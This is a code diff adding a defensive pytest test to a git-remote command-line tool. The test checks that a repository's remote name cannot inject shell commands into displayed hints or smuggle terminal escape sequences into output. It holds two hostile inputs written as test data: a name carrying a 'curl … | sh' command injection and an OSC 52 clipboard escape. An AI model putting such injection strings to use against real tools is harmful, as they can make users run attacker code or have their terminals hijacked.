@@ -188,6 +188,25 @@ def test_a_request_in_a_clone_goes_on_by_its_ssh_url(home: Home):
             f"'{home.base}' {home.ssh_url()}\n") in run.out
 
 
+@pytest.mark.parametrize("name, shown", [
+    ("a;curl${IFS}x|sh;#", True), ("a\x1b]52;c;AAAA\x07", False)])
+def test_a_remotes_name_is_a_strangers(home: Home, name: str, shown: bool):
+    """It came with the repository; a person copies what is on the screen."""
+    home.token = None
+    home.git("config", "--global", f"bbkey.{home.base}.edition", "datacenter")
+    folder = cloned_elsewhere(home, home.https_url())
+    config = folder / ".git" / "config"
+    config.write_text(config.read_text().replace('"origin"', f'"{name}"'))
+    for words in (["init"], ["status"], ["request"]):
+        run = home.bbkey(*words, cwd=folder)
+        assert "\x1b" not in run.out + run.err, run
+        if not shown:
+            assert run.error_class == "usage" and "name" in run.error, run
+    if shown:
+        run = home.bbkey("init", "--base", home.base, cwd=folder)
+        assert f" and git remote set-url '{name}' <that URL>" in run.hint, run
+
+
 # --- what is refused ----------------------------------------------------------
 
 
